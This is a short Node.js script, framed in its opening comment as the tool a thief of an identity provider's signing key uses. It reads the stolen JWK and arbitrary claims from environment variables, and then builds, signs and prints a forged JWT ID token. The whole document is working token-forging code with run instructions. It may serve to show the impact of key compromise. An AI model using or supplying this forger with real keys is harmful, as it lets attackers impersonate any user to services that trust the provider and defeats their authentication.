// What a thief of the provider's signing key does with it: signs whatever claims he likes. `node forge.mjs`
// The key (a JWK) comes in $KEY and the claims in $CLAIMS; prints the ID token.
import { createPrivateKey, sign } from 'node:crypto';

const key = JSON.parse(process.env.KEY);
const part = (text) => Buffer.from(text).toString('base64url');
const signed = `${part(JSON.stringify({ alg: key.alg, typ: 'JWT', kid: key.kid }))}.${part(process.env.CLAIMS)}`;
const signature = sign('sha256', Buffer.from(signed), createPrivateKey({ key, format: 'jwk' }));
console.log(`${signed}.${signature.toString('base64url')}`);
